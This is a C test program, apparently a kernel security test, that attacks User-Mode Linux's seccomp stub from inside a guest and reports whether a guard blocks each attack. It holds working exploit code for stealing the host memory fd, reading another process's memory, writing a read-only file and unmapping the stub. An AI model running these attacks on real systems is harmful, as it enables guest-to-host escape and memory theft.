// SPDX-License-Identifier: GPL-2.0-only
/*
 * hostile - attacks on UML's seccomp stub, from inside a guest
 *
 * Guest code in seccomp mode runs in a host process, the stub, whose filter
 * allows host system calls from one page only. That page is mapped into the
 * guest's address space, so guest code can jump to its `syscall` instructions
 * with registers and a stack of its own. Each attack below starts from there.
 *
 * Nothing about the kernel build is compiled in: the stub's pages, its
 * `syscall` instructions and the fields of its shared data are found at run
 * time, so the same binary runs on guarded and unguarded kernels.
 *
 *	gcc -O2 -static -Wall -Wextra -Werror -o hostile hostile.c
 *	hostile --list		names and one-line descriptions
 *	hostile --probe		what is found of the stub
 *	hostile NAME		one attack
 *
 * An attack ends with one line on stdout and an exit code:
 *
 *	BLOCKED what was seen		0
 *	BREACHED what was seen		1
 *	INCONCLUSIVE why		2
 *
 * On a kernel without a guard some attacks panic or hang the whole guest. Then
 * there is no such line, and whoever booted the guest has to tell (run.sh).
 */
#define _GNU_SOURCE
#include <asm/prctl.h>
#include <assert.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/futex.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>
#include <x86intrin.h>

#define PAGE		4096UL
#define ARRAY_SIZE(a)	(sizeof(a) / sizeof((a)[0]))

/* ------------------------------------------------------------------------
 * The verdict: memory shared by the attacker and the process that judges it
 */

enum kind { PENDING, BLOCKED, BREACHED, INCONCLUSIVE };

/*
 * An attacker may lose its stub at any instruction. So it reports with plain
 * stores to memory that is mapped already: no system call, no page fault.
 */
static struct shared {
	volatile enum kind kind;
	char text[256];		/* with the verdict */
	char step[128];		/* what the attacker was doing last */
	unsigned char claim[32];	/* the secret it says it has read, */
	bool claimed;			/* if any */
} *shared;

static void *map_shared(size_t size)
{
	void *p = mmap(NULL, size, PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);

	if (p == MAP_FAILED) {
		perror("mmap");
		exit(2);
	}
	return p;
}

#define describe(...)	\
	snprintf(shared->text, sizeof(shared->text), __VA_ARGS__)
#define step(...)	\
	snprintf(shared->step, sizeof(shared->step), __VA_ARGS__)
#define set_verdict(verdict, ...) \
	do { describe(__VA_ARGS__); shared->kind = (verdict); } while (0)
#define conclude(...)	do { set_verdict(__VA_ARGS__); _exit(0); } while (0)

/* Run @fn in a child of its own; the wait status tells how it ended. */
static int in_child(void (*fn)(void *), void *arg)
{
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		fn(arg);
		_exit(0);
	}
	if (pid < 0 || waitpid(pid, &status, 0) != pid)
		conclude(INCONCLUSIVE, "fork: %s", strerror(errno));
	return status;
}

/* ------------------------------------------------------------------------
 * Finding the stub: its pages and its `syscall` instructions
 */

#define HOST_TOP	0x7ffffffff000UL	/* end of a host address space */
#define SEARCH_PAGES	256
#define MAX_SITES	64

static struct stub {
	uintptr_t code, data, end;
	uintptr_t site[MAX_SITES];	/* addresses of `syscall` instructions */
	unsigned int nsites;
} stub;

static sigjmp_buf probe_jmp;

static void probe_fault(int sig)
{
	(void)sig;
	siglongjmp(probe_jmp, 1);
}

static bool readable(uintptr_t page)
{
	if (sigsetjmp(probe_jmp, 1))
		return false;
	(void)*(volatile char *)page;
	return true;
}

static bool writable(uintptr_t page)
{
	volatile char *p = (volatile char *)page;

	if (sigsetjmp(probe_jmp, 1))
		return false;
	*p = *p;
	return true;
}

static void find_sites(void)
{
	const unsigned char *code = (const unsigned char *)stub.code;
	size_t i, size = stub.data - stub.code;

	for (i = 0; i + 1 < size && stub.nsites < MAX_SITES; i++)
		if (code[i] == 0x0f && code[i + 1] == 0x05)
			stub.site[stub.nsites++] = stub.code + i;
}

/*
 * The stub is the topmost thing in the host address space, above all that a
 * guest can map: first its read-only code, then its writable data.
 */
static void find_stub(void)
{
	struct sigaction old, sa = { .sa_handler = probe_fault };
	uintptr_t p = HOST_TOP - PAGE, lowest = HOST_TOP - SEARCH_PAGES * PAGE;

	sigaction(SIGSEGV, &sa, &old);
	while (p > lowest && !readable(p))
		p -= PAGE;
	stub.end = p + PAGE;
	while (p > lowest && readable(p) && writable(p))
		p -= PAGE;
	stub.data = p + PAGE;
	while (p > lowest && readable(p) && !writable(p))
		p -= PAGE;
	stub.code = p + PAGE;
	sigaction(SIGSEGV, &old, NULL);
	if (stub.code < stub.data && stub.data < stub.end)
		find_sites();
	if (!stub.nsites)
		conclude(INCONCLUSIVE, "no stub pages found below %#lx",
			 HOST_TOP);
}

/* ------------------------------------------------------------------------
 * Finding the stub's report to the monitor, and the last signal frame
 */

/* sizeof(ucontext) in a host signal frame; siginfo follows it */
#define FRAME_UCONTEXT_SIZE	304
#define FRAME_SIGINFO		(FRAME_UCONTEXT_SIZE - offsetof(ucontext_t, uc_mcontext))
#define SIGINFO_SYSCALL		24	/* si_syscall; no name for it in libc */

static struct report {
	mcontext_t *frame;		/* registers of the last report */
	uintptr_t stack;		/* page the offsets count from */
	volatile uint16_t *si_offset, *mctx_offset;
	volatile int32_t *signal;
	volatile uint32_t *futex;	/* 0: the stub runs; 1: the kernel does */
	volatile int16_t *restart_wait;
	volatile int64_t *err;
	volatile int32_t *length;
} report;

/* A guest call whose report shows recognisable registers. */
static void report_marks(const uint64_t mark[7])
{
	long nr = SYS_getpid;

	asm volatile("mov 0x00(%1), %%r8\n\t"
		     "mov 0x08(%1), %%r9\n\t"
		     "mov 0x10(%1), %%r10\n\t"
		     "mov 0x18(%1), %%r12\n\t"
		     "mov 0x20(%1), %%r13\n\t"
		     "mov 0x28(%1), %%r14\n\t"
		     "mov 0x30(%1), %%r15\n\t"
		     "syscall"
		     : "+a" (nr)
		     : "S" (mark)
		     : "rcx", "r8", "r9", "r10", "r11", "r12", "r13", "r14",
		       "r15", "memory");
}

static bool find_frame(void)
{
	static const int reg[7] = { REG_R8, REG_R9, REG_R10, REG_R12, REG_R13,
				    REG_R14, REG_R15 };
	uint64_t mark[7];
	uintptr_t p;
	int i;

	for (i = 0; i < 7; i++)
		mark[i] = __rdtsc() << 8 | i;
	report_marks(mark);
	for (p = stub.data; p + sizeof(mcontext_t) <= stub.end; p += 8) {
		mcontext_t *m = (mcontext_t *)p;

		for (i = 0; i < 7; i++)
			if ((uint64_t)m->gregs[reg[i]] != mark[i])
				break;
		if (i == 7) {
			report.frame = m;
			return true;
		}
	}
	return false;
}

/* The two adjacent offsets of siginfo and mcontext, from some data page on. */
static bool find_offsets(void)
{
	uintptr_t mctx = (uintptr_t)report.frame, p, base;

	for (base = stub.data; base <= mctx; base += PAGE) {
		for (p = stub.data; p + 4 <= stub.end; p += 2) {
			uint16_t *pair = (uint16_t *)p;

			if (pair[0] == (uint16_t)(mctx + FRAME_SIGINFO - base) &&
			    pair[1] == (uint16_t)(mctx - base)) {
				report.stack = base;
				report.si_offset = &pair[0];
				report.mctx_offset = &pair[1];
				return true;
			}
		}
	}
	return false;
}

/*
 * The other fields stand right before the two offsets, and `err` and the
 * batch's length at the start of the data (struct stub_data).
 */
static void find_report(void)
{
	int tries = 0;

	/* a timer tick between call and search replaces the frame */
	while (!find_frame())
		if (++tries == 10)
			conclude(BLOCKED, "no signal frame in the stub's data");
	if (!find_offsets())
		conclude(BLOCKED, "no report in the stub's data");
	report.signal = (volatile int32_t *)report.si_offset - 1;
	report.futex = (volatile uint32_t *)report.si_offset - 2;
	report.restart_wait = (volatile int16_t *)report.si_offset - 6;
	report.err = (volatile int64_t *)stub.data;
	report.length = (volatile int32_t *)(stub.data + 8);
	if (*report.futex != 0)
		conclude(INCONCLUSIVE, "unknown layout of the stub's data");
}

/* ------------------------------------------------------------------------
 * Calling the host through the stub, and coming back
 */

struct host_call {
	long nr, arg[6];
	uintptr_t site, stack, filler;
};

/*
 * Jumps to a `syscall` instruction of the stub. What runs behind it is the
 * stub's own code, up to some `ret`: each word of the stack is the address of
 * `landing`, and the registers that C code keeps point into zeroed memory.
 */
long host_call_raw(const struct host_call *call);
extern const char landing[];

asm("	.pushsection .bss\n"
    "	.balign 8\n"
    "home_rsp: .zero 8\n"
    "	.popsection\n"
    "	.pushsection .text\n"
    "	.globl	host_call_raw, landing\n"
    "	.type	host_call_raw, @function\n"
    "host_call_raw:\n"
    "	push	%rbp\n"
    "	push	%rbx\n"
    "	push	%r12\n"
    "	push	%r13\n"
    "	push	%r14\n"
    "	push	%r15\n"
    "	mov	%rsp, home_rsp(%rip)\n"
    "	mov	0x00(%rdi), %rax\n"
    "	mov	0x10(%rdi), %rsi\n"
    "	mov	0x18(%rdi), %rdx\n"
    "	mov	0x20(%rdi), %r10\n"
    "	mov	0x28(%rdi), %r8\n"
    "	mov	0x30(%rdi), %r9\n"
    "	mov	0x38(%rdi), %rcx\n"
    "	mov	0x40(%rdi), %rsp\n"
    "	mov	0x48(%rdi), %rbx\n"
    "	mov	%rbx, %rbp\n"
    "	mov	%rbx, %r12\n"
    "	mov	%rbx, %r13\n"
    "	mov	%rbx, %r14\n"
    "	mov	%rbx, %r15\n"
    "	mov	0x08(%rdi), %rdi\n"
    "	jmp	*%rcx\n"
    "landing:\n"
    "	mov	home_rsp(%rip), %rsp\n"
    "	pop	%r15\n"
    "	pop	%r14\n"
    "	pop	%r13\n"
    "	pop	%r12\n"
    "	pop	%rbx\n"
    "	pop	%rbp\n"
    "	ret\n"
    "	.size	host_call_raw, . - host_call_raw\n"
    "	.popsection\n");

static_assert(offsetof(struct host_call, site) == 0x38 &&
	      offsetof(struct host_call, stack) == 0x40 &&
	      offsetof(struct host_call, filler) == 0x48,
	      "host_call_raw() knows these offsets");

static long host_call_at(uintptr_t site, long nr, const long arg[6])
{
	static uintptr_t stack[1024];
	static uintptr_t filler[2 * PAGE / sizeof(uintptr_t)];
	struct host_call call = {
		.nr = nr,
		.site = site,
		.stack = (uintptr_t)&stack[ARRAY_SIZE(stack) / 2],
		.filler = (uintptr_t)&filler[ARRAY_SIZE(filler) / 2],
	};
	size_t i;

	memcpy(call.arg, arg, sizeof(call.arg));
	memset(filler, 0, sizeof(filler));
	for (i = 0; i < ARRAY_SIZE(stack); i++)
		stack[i] = (uintptr_t)landing;
	return host_call_raw(&call);
}

/*
 * A harmless call for each system call number, one that fails whoever makes
 * it: a negative errno in rax proves that control and the result come back.
 */
static void harmless_args(long nr, long arg[6])
{
	static struct msghdr nothing;

	memset(arg, 0, 6 * sizeof(*arg));
	switch (nr) {
	case SYS_futex:		/* on the stub's own word, which is 0 now */
		arg[0] = (long)report.futex;
		arg[1] = FUTEX_WAIT;
		arg[2] = 1;
		break;
	case SYS_recvmsg:	/* from the stub's socket, which is empty */
		arg[1] = (long)&nothing;
		break;
	case SYS_close:		/* what no batch has left open */
		arg[0] = 2;
		break;
	case SYS_arch_prctl:	/* not a canonical address */
		arg[0] = ARCH_SET_GS;
		arg[1] = LONG_MIN;
		break;
	case SYS_mmap:
	case SYS_munmap:	/* not page-aligned */
		arg[0] = 1;
		arg[1] = PAGE;
		arg[3] = MAP_SHARED | MAP_FIXED;
		arg[4] = -1;
		break;
	}
}

struct trial {
	long nr;
	uintptr_t site;
};

static void try_site(void *arg)
{
	const struct trial *t = arg;
	long args[6], ret;

	harmless_args(t->nr, args);
	alarm(2);		/* in case the code behind it loops */
	ret = host_call_at(t->site, t->nr, args);
	_exit(ret < 0 && ret > -4096 ? 0 : 1);
}

/*
 * The instruction through which @nr can be called and comes back. Each is tried
 * in a child: most lead on into something that ends the process.
 */
static uintptr_t site_for(long nr)
{
	static struct trial known[8];
	struct trial t = { .nr = nr };
	unsigned int i, n = 0;

	for (; n < ARRAY_SIZE(known) && known[n].site; n++)
		if (known[n].nr == nr)
			return known[n].site;
	step("looking for a way back from system call %ld", nr);
	for (i = 0; i < stub.nsites; i++) {
		t.site = stub.site[i];
		if (in_child(try_site, &t) != 0)
			continue;
		if (n < ARRAY_SIZE(known))
			known[n] = t;
		return t.site;
	}
	conclude(BLOCKED, "none of %u syscall instructions comes back from system call %ld",
		 stub.nsites, nr);
}

#define host_call(nr, ...) \
	host_call_at(site_for(nr), nr, (const long[6]){ __VA_ARGS__ })

/*
 * A call that waits for the monitor's answer ends with EINTR when a timer tick
 * comes first. That is no answer.
 */
#define ANSWER_TRIES	50

#define answered_call(nr, ...) ({					\
	long ret_;							\
	int tries_ = 0;							\
	do								\
		ret_ = host_call(nr, __VA_ARGS__);			\
	while (ret_ == -EINTR && ++tries_ < ANSWER_TRIES);		\
	ret_;								\
})

static long host_mmap(uintptr_t addr, size_t len, int prot, int fd, long offset)
{
	return answered_call(SYS_mmap, (long)addr, (long)len, prot,
			     MAP_SHARED | MAP_FIXED, fd, offset);
}

/* ------------------------------------------------------------------------
 * rt_sigreturn restores whatever the frame on the stack says: registers, the
 * signal mask, and the alternate signal stack.
 */

static uint16_t segment_ss(void)
{
	uint16_t ss;

	asm("mov %%ss, %0" : "=r" (ss));
	return ss;
}

static uint16_t segment_cs(void)
{
	uint16_t cs;

	asm("mov %%cs, %0" : "=r" (cs));
	return cs;
}

/* A host signal frame that continues at @rip with @blocked signals blocked. */
static void make_frame(ucontext_t *uc, uintptr_t rip, uint64_t blocked)
{
	greg_t *regs = uc->uc_mcontext.gregs;
	static char stack[4 * PAGE] __attribute__((aligned(16)));

	memset(uc, 0, sizeof(*uc));
	uc->uc_flags = 2 | 4;	/* UC_SIGCONTEXT_SS | UC_STRICT_RESTORE_SS */
	uc->uc_stack.ss_size = 1;	/* invalid: the host keeps the old one */
	regs[REG_RIP] = (greg_t)rip;
	regs[REG_RSP] = (greg_t)(stack + sizeof(stack) - 8);
	regs[REG_EFL] = 0x202;
	regs[REG_CSGSFS] = (greg_t)((uint64_t)segment_ss() << 48 | segment_cs());
	memcpy(&uc->uc_sigmask, &blocked, sizeof(blocked));
}

/* Comes back only if the frame says `landing`. */
static long host_sigreturn(uintptr_t site, const ucontext_t *uc)
{
	struct host_call call = {
		.nr = SYS_rt_sigreturn,
		.site = site,
		.stack = (uintptr_t)uc,
	};

	return host_call_raw(&call);
}

static void try_sigreturn(void *arg)
{
	ucontext_t uc;

	make_frame(&uc, (uintptr_t)landing, 0);
	uc.uc_mcontext.gregs[REG_RAX] = 4711;
	_exit(host_sigreturn(*(uintptr_t *)arg, &uc) == 4711 ? 0 : 1);
}

/* The instruction that does rt_sigreturn, or 0. */
static uintptr_t find_sigreturn(void)
{
	unsigned int i;

	step("looking for an instruction that does rt_sigreturn");
	for (i = 0; i < stub.nsites; i++)
		if (in_child(try_sigreturn, &stub.site[i]) == 0)
			return stub.site[i];
	return 0;
}

static uintptr_t sigreturn_site(void)
{
	uintptr_t site = find_sigreturn();

	if (!site)
		conclude(BLOCKED, "none of %u syscall instructions does rt_sigreturn",
			 stub.nsites);
	return site;
}

static const uint64_t host_sigalrm = 1UL << (SIGALRM - 1);

/*
 * The host's SIGALRM is UML's timer tick. Without it nothing interrupts what
 * follows; if it cannot be blocked an attack has to do with what it gets.
 */
static void block_ticks(void)
{
	uintptr_t site = find_sigreturn();
	ucontext_t uc;

	if (!site)
		return;
	make_frame(&uc, (uintptr_t)landing, host_sigalrm);
	host_sigreturn(site, &uc);
}

/* ------------------------------------------------------------------------
 * Forging a report: the monitor goes to work, and so does the stub
 */

/*
 * Until the report is out, no genuine one may get in between and replace it:
 * find the instruction and touch all that the call needs, with one that fails
 * because the word is 0.
 */
static void prepare_forgery(void)
{
	host_call(SYS_futex, (long)report.futex, FUTEX_WAIT, 1);
}

/* Report to the monitor what the frame says now, but do not stop for it. */
static void forge_report(int sig)
{
	*report.signal = sig;
	__atomic_store_n(report.futex, 1, __ATOMIC_SEQ_CST);
	host_call(SYS_futex, (long)report.futex, FUTEX_WAKE, 1);
}

/* Sleep until the monitor lets "the stub" go on, as the stub would. */
static void await_resume(void)
{
	while (__atomic_load_n(report.futex, __ATOMIC_SEQ_CST) == 1)
		host_call(SYS_futex, (long)report.futex, FUTEX_WAIT, 1);
}

/*
 * Is there a mapping in the host, whatever a call has answered? Reading from
 * @addr would let the guest kernel repair the fault. As a msghdr it is read by
 * the host: from an empty socket this fails, but with EFAULT only if nothing is
 * there.
 */
static bool host_has(uintptr_t addr)
{
	return host_call(SYS_recvmsg, 0, (long)addr, 0) != -EFAULT;
}

/* What an mmap at @addr has come to. */
static const char *outcome(long ret, uintptr_t addr)
{
	if (ret != (long)addr)
		return ret < 0 && ret > -4096 ? strerrordesc_np((int)-ret) :
						"a strange answer";
	return host_has(addr) ? "mapped" : "said to be done, but nothing is mapped";
}

/* ------------------------------------------------------------------------
 * The memory fd: a forged page fault makes the kernel queue an mmap and send
 * the fd to the stub's socket. The stub's code is not there to receive it.
 */

struct frame_grant {
	int fd;
	long offset;	/* of the frame that the kernel allotted */
};

static int receive_fd(void)
{
	char byte;
	union {
		char buf[CMSG_SPACE(4 * sizeof(int))];
		struct cmsghdr align;
	} control;
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr msg = {
		.msg_iov = &iov,
		.msg_iovlen = 1,
		.msg_control = &control,
		.msg_controllen = sizeof(control),
	};
	struct cmsghdr *cmsg;
	int fd;

	if (host_call(SYS_recvmsg, 0, (long)&msg, 0) != 1)
		return -1;
	cmsg = CMSG_FIRSTHDR(&msg);
	if (!cmsg || cmsg->cmsg_type != SCM_RIGHTS)
		return -1;
	memcpy(&fd, CMSG_DATA(cmsg), sizeof(fd));
	return fd;
}

/* The batch in the stub's data tells address, length and offset. */
static long queued_offset(uintptr_t addr)
{
	const uint64_t *p = (const uint64_t *)stub.data;
	const uint64_t *end = (const uint64_t *)stub.end - 3;

	for (; p < end; p++)
		if (p[0] == addr && p[1] == PAGE)
			return (long)p[2];
	return -1;
}

/* Root can ask the guest kernel for the frame instead. */
static long pagemap_offset(uintptr_t addr)
{
	uint64_t entry = 0;
	int fd = open("/proc/self/pagemap", O_RDONLY);

	if (fd < 0)
		return -1;
	if (pread(fd, &entry, sizeof(entry), addr / PAGE * sizeof(entry)) !=
	    sizeof(entry))
		entry = 0;
	close(fd);
	entry &= (1UL << 55) - 1;
	return entry ? (long)(entry * PAGE) : -1;
}

static void forge_fault(uintptr_t addr, bool write)
{
	greg_t *regs = report.frame->gregs;

	regs[REG_TRAPNO] = 14;
	regs[REG_ERR] = write ? 6 : 4;
	regs[REG_CR2] = (greg_t)addr;
	forge_report(SIGSEGV);
	await_resume();
}

/*
 * Have the kernel hand out the memory fd for a page at @addr, which must not
 * be present yet. A timer tick may get in between, then the stub's own code
 * takes the fd: the caller tries again with another page.
 */
static bool steal_fd(uintptr_t addr, bool write, struct frame_grant *grant)
{
	prepare_forgery();
	step("forging a page fault report");
	forge_fault(addr, write);
	step("receiving the memory fd");
	grant->fd = receive_fd();
	grant->offset = queued_offset(addr);
	if (grant->fd >= 0 && grant->offset < 0)
		grant->offset = pagemap_offset(addr);
	if (grant->fd >= 0 && grant->offset >= 0)
		return true;
	if (grant->fd >= 0)	/* it would change the next one's number */
		host_call(SYS_close, grant->fd);
	return false;
}

/* To be done first: these look-ups make processes, and so reports. */
static void prepare_theft(void)
{
	find_report();
	(void)site_for(SYS_recvmsg);
	(void)site_for(SYS_mmap);
	(void)site_for(SYS_close);
	block_ticks();
}

/* A range of guest addresses with nothing in it yet. */
static uintptr_t reserve(size_t size)
{
	void *p = mmap(NULL, size, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

	if (p == MAP_FAILED)
		conclude(INCONCLUSIVE, "mmap: %s", strerror(errno));
	return (uintptr_t)p;
}

#define STEAL_TRIES	20

/* Returns the address of the page that came with the fd, @size reserved. */
static uintptr_t steal_fd_somewhere(size_t size, struct frame_grant *grant)
{
	int i;

	for (i = 0; i < STEAL_TRIES; i++) {
		uintptr_t window = reserve(size);

		if (steal_fd(window, true, grant))
			return window;
	}
	conclude(BLOCKED, "the kernel did not hand out the memory fd in %d tries",
		 STEAL_TRIES);
}

/* The physical memory's size is where the last zone ends. */
static size_t memory_size(void)
{
	unsigned long value, spanned = 0, pages = 0;
	char line[128];
	FILE *f = fopen("/proc/zoneinfo", "r");

	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, " spanned %lu", &value) == 1)
			spanned = value;
		if (sscanf(line, " start_pfn: %lu", &value) == 1 && spanned &&
		    value + spanned > pages)
			pages = value + spanned;
	}
	if (f)
		fclose(f);
	if (!pages)
		conclude(INCONCLUSIVE, "/proc/zoneinfo does not tell the memory's size");
	return pages * PAGE;
}

/* ------------------------------------------------------------------------
 * The victim: another process that fills pages with a secret
 */

struct secret_page {
	unsigned char marker[16];	/* what a scan looks for; not secret */
	unsigned char secret[32];	/* known to the victim alone */
};

static struct {
	unsigned char marker[16];
	int ask, answer;		/* pipes */
} victim;

static void victim_main(int from, int to)
{
	unsigned char claim[32], ok = 1;
	/* so much that wherever an attacker looks it finds some */
	size_t i, n = (size_t)sysconf(_SC_AVPHYS_PAGES) / 2;
	struct secret_page s;
	char *pages = mmap(NULL, n * PAGE, PROT_READ | PROT_WRITE,
			   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	memcpy(s.marker, victim.marker, sizeof(s.marker));
	if (pages == MAP_FAILED ||
	    getrandom(s.secret, sizeof(s.secret), 0) != sizeof(s.secret))
		_exit(1);
	for (i = 0; i < n; i++)
		memcpy(pages + i * PAGE, &s, sizeof(s));
	if (write(to, &ok, 1) != 1)
		_exit(1);
	while (read(from, claim, sizeof(claim)) == sizeof(claim)) {
		ok = memcmp(claim, s.secret, sizeof(claim)) == 0;
		if (write(to, &ok, 1) != 1)
			break;
	}
	_exit(0);
}

static void start_victim(void)
{
	int ask[2], answer[2];
	char ready;

	if (pipe(ask) || pipe(answer) ||
	    getrandom(victim.marker, sizeof(victim.marker), 0) !=
	    sizeof(victim.marker))
		conclude(INCONCLUSIVE, "no victim: %s", strerror(errno));
	victim.ask = ask[1];
	victim.answer = answer[0];
	if (fork() == 0) {
		close(ask[1]);
		victim_main(ask[0], answer[1]);
	}
	close(ask[0]);
	close(answer[1]);
	if (read(victim.answer, &ready, 1) != 1)
		conclude(INCONCLUSIVE, "the victim did not start");
}

static bool claim_is_true(void)
{
	char ok = 0;

	return write(victim.ask, shared->claim, sizeof(shared->claim)) ==
		       sizeof(shared->claim) &&
	       read(victim.answer, &ok, 1) == 1 && ok;
}

/* Number of pages in the window that hold the victim's secret. */
static size_t scan_for_secret(uintptr_t window, size_t size)
{
	size_t found = 0, at;

	for (at = 0; at < size; at += PAGE) {
		const struct secret_page *s = (const void *)(window + at);

		if (memcmp(s->marker, victim.marker, sizeof(s->marker)))
			continue;
		memcpy(shared->claim, s->secret, sizeof(s->secret));
		shared->claimed = true;
		found++;
	}
	return found;
}

/* In the judge: an attacker's claim counts if the victim agrees. */
static void judge_claim(void)
{
	if (shared->claimed && !claim_is_true())
		set_verdict(INCONCLUSIVE, "the victim does not know the claimed secret");
}

/* ------------------------------------------------------------------------
 * Attacks on memory
 */

/* One page at a time: neighbours of a frame that is the attacker's own. */
#define NEIGHBOURS	16

static unsigned int map_neighbours(uintptr_t page, const struct frame_grant *grant,
				   size_t *secrets, long *ret)
{
	unsigned int i, mapped = 0;

	for (i = 1; i <= NEIGHBOURS; i++) {
		*ret = host_mmap(page, PAGE, PROT_READ, grant->fd,
				 grant->offset + i * (long)PAGE);
		if (*ret != (long)page || !host_has(page))
			continue;
		mapped++;
		*secrets += scan_for_secret(page, PAGE);
	}
	return mapped;
}

static void foreign_frame(void)
{
	size_t size = memory_size(), secrets = 0;
	const char *whole, *single;
	struct frame_grant grant;
	unsigned int mapped;
	uintptr_t window;
	long ret;

	prepare_theft();
	window = steal_fd_somewhere(size, &grant);
	step("mapping all memory with fd %d", grant.fd);
	ret = host_mmap(window, size, PROT_READ, grant.fd, 0);
	if (ret == (long)window && host_has(window + PAGE))
		conclude(BREACHED, "mapped all %zu MiB of memory, read the victim's secret in %zu frames",
			 size >> 20, scan_for_secret(window, size));
	whole = outcome(ret, window);
	set_verdict(BLOCKED, "took the memory fd; mmap of all memory: %s", whole);
	step("mapping single foreign frames with fd %d", grant.fd);
	mapped = map_neighbours(window, &grant, &secrets, &ret);
	if (mapped)
		conclude(BREACHED, "mapped %u foreign frames, %zu with the secret",
			 mapped, secrets);
	single = outcome(ret, window);
	conclude(BLOCKED, "took the memory fd; mmap of all memory: %s; of single foreign frames: %s",
		 whole, single);
}

/* The long call comes first: it is the one that the monitor waits for. */
static void length_overrun(void)
{
	size_t size = memory_size(), length = 0, secrets;
	struct frame_grant grant;
	const char *overrun;
	uintptr_t window;
	long ret;
	int i;

	prepare_theft();
	for (i = 0; i < STEAL_TRIES; i++) {
		window = steal_fd_somewhere(size, &grant);
		length = size - (size_t)grant.offset;
		step("mapping %zu pages with the frame of one", length / PAGE);
		ret = host_mmap(window, length, PROT_READ | PROT_WRITE,
				grant.fd, grant.offset);
		if (ret != (long)window || !host_has(window + PAGE)) {
			overrun = outcome(ret, window);
			set_verdict(BLOCKED, "%zu pages with the frame of one: %s",
				    length / PAGE, overrun);
			ret = host_mmap(window, PAGE, PROT_READ, grant.fd,
					grant.offset);
			conclude(BLOCKED, "%zu pages with the frame of one: %s; that one alone: %s",
				 length / PAGE, overrun, outcome(ret, window));
		}
		secrets = scan_for_secret(window + PAGE, length - PAGE);
		if (secrets)
			conclude(BREACHED, "mapped %zu frames behind one page, read the victim's secret in %zu of them",
				 length / PAGE - 1, secrets);
		host_call(SYS_close, grant.fd);
	}
	conclude(BREACHED, "mapped %zu frames behind one page, though none with the secret",
		 length / PAGE - 1);
}

/* wrong-prot: a page of a file that the attacker may only read */

static const char genuine[] = "written by the owner";
static const char altered[] = "written by attacker!";
static int owned_fd = -1;

static void create_owned_file(void)
{
	owned_fd = memfd_create("owned", 0);
	if (owned_fd < 0 || ftruncate(owned_fd, PAGE) ||
	    pwrite(owned_fd, genuine, sizeof(genuine), 0) != sizeof(genuine))
		conclude(INCONCLUSIVE, "memfd: %s", strerror(errno));
}

static int reopen_read_only(int fd)
{
	char path[32];
	int ro;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	ro = open(path, O_RDONLY);
	if (ro < 0)
		conclude(INCONCLUSIVE, "%s: %s", path, strerror(errno));
	close(fd);
	return ro;
}

static void *map_read_only(int fd)
{
	void *page = mmap(NULL, PAGE, PROT_READ, MAP_PRIVATE, fd, 0);

	if (page == MAP_FAILED)
		conclude(INCONCLUSIVE, "mmap: %s", strerror(errno));
	return page;
}

static void wrong_prot(void)
{
	int i, fd = reopen_read_only(owned_fd);
	struct sigaction sa = { .sa_handler = probe_fault };
	struct frame_grant grant;
	const char *rw;
	char *page = NULL;
	long ret;

	prepare_theft();
	for (i = 0; i < STEAL_TRIES; i++) {
		page = map_read_only(fd);
		if (steal_fd((uintptr_t)page, false, &grant))
			break;
	}
	if (i == STEAL_TRIES)
		conclude(BLOCKED, "the kernel did not hand out the memory fd in %d tries", i);
	step("mapping a read-only page writable");
	ret = host_mmap((uintptr_t)page, PAGE, PROT_READ | PROT_WRITE, grant.fd,
			grant.offset);
	if (ret != (long)page || !host_has((uintptr_t)page)) {
		rw = outcome(ret, (uintptr_t)page);
		set_verdict(BLOCKED, "the page writable: %s", rw);
		ret = host_mmap((uintptr_t)page, PAGE, PROT_READ, grant.fd,
				grant.offset);
		conclude(BLOCKED, "the page writable: %s; the page as it is: %s",
			 rw, outcome(ret, (uintptr_t)page));
	}
	host_call(SYS_close, grant.fd);
	sigaction(SIGSEGV, &sa, NULL);
	if (!writable((uintptr_t)page))
		conclude(BLOCKED, "the page is mapped, but not writable");
	memcpy(page, altered, sizeof(altered));
	conclude(BREACHED, "wrote to a file that it could only read");
}

static void judge_owned_file(void)
{
	char seen[sizeof(genuine)] = "";

	if (pread(owned_fd, seen, sizeof(seen), 0) != sizeof(seen))
		set_verdict(INCONCLUSIVE, "pread: %s", strerror(errno));
	else if (!memcmp(seen, altered, sizeof(seen)))
		set_verdict(BREACHED, "wrote to a file that it could only read: its owner sees \"%s\"",
			    seen);
	else if (shared->kind == BREACHED)
		set_verdict(INCONCLUSIVE, "mapped writable, but its owner sees no change");
}

/*
 * Once a data page is gone the stub's signal handler cannot run: the process
 * is lost with the next signal. What it has stored before remains.
 */
static void munmap_stub(void)
{
	uintptr_t page;
	long ret = 0;

	(void)site_for(SYS_munmap);
	block_ticks();
	for (page = stub.data; page < stub.end; page += PAGE) {
		step("unmapping the stub's data page %#lx", page);
		ret = answered_call(SYS_munmap, (long)page, PAGE);
		if (ret == 0)
			break;
	}
	if (page == stub.end)
		conclude(BLOCKED, "munmap of each of the stub's %lu data pages: %s",
			 (stub.end - stub.data) / PAGE, strerrordesc_np((int)-ret));
	set_verdict(BREACHED, "munmap of the stub's data page answered 0, and the process was lost");
	(void)*(volatile char *)page;
	conclude(INCONCLUSIVE, "munmap answered 0, but the page is still there");
}

/* ------------------------------------------------------------------------
 * Attacks on time
 */

#define STUBBORN_SECONDS	10

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint64_t ticks_per_second(void)
{
	double start = now(), end;
	uint64_t tsc = __rdtsc();

	do
		end = now();
	while (end < start + 0.2);
	return (uint64_t)((double)(__rdtsc() - tsc) / (end - start));
}

static uint64_t spin_ticks;

/*
 * Runs with SIGALRM blocked in the host, and makes no guest call till the end.
 * Time in which the host runs something else shows as gaps and is not counted.
 */
